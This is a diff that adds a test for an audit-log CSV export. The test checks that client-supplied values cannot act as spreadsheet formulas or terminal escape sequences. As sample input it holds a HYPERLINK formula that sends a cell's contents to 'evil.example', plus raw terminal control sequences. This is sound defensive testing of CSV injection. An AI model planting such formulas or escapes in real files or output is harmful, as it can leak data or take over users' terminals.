@@ -120,3 +120,26 @@ def test_the_daemon_purges_old_rows_on_its_schedule_and_keeps_new_ones(daemons, 
         wait_until(lambda: db.execute("SELECT COUNT(*) FROM audit").fetchone()[0] == 1, 30, what="the new row kept")
     finally:
         db.close()
+
+
+def test_a_csv_export_neither_runs_a_clients_formula_in_a_spreadsheet_nor_its_escapes_in_a_terminal(tmp_path):
+    """What a client sent (its model name, X-Request-Id, prompt) is in the audit rows: in
+    CSV a cell starting with = + - @ is a spreadsheet formula (OWASP's CSV injection) and
+    an escape sequence is obeyed by the terminal the export is printed to. JSON lines
+    keep every value exactly (JSON escapes them)."""
+    cfg = tmp_path / "appliance.toml"
+    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
+    db = connect(path_in(tmp_path / "state"))
+    formula, prompt = '=HYPERLINK("http://evil.example/?"&A1)', "\x1b]0;PWNED\x07hi\r\nthere\x9b2J"
+    db.execute(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
+               (NOW, "@SUM(1+1)", None, None, formula, "chat", None, 404, None, None, 1.0, None, None, prompt, None))
+    db.commit()
+    out = _export(cfg, "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    assert "\x1b" not in out.stdout and "\x9b" not in out.stdout
+    row = next(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["model"] == "'" + formula and row["request_id"] == "'@SUM(1+1)"
+    assert row["request_text"] == "\\x1b]0;PWNED\\x07hi\\x0d\nthere\\x9b2J"
+    assert row["status"] == "404" and row["key_id"] == ""
+    exact = json.loads(_export(cfg).stdout)
+    assert exact["model"] == formula and exact["request_text"] == prompt
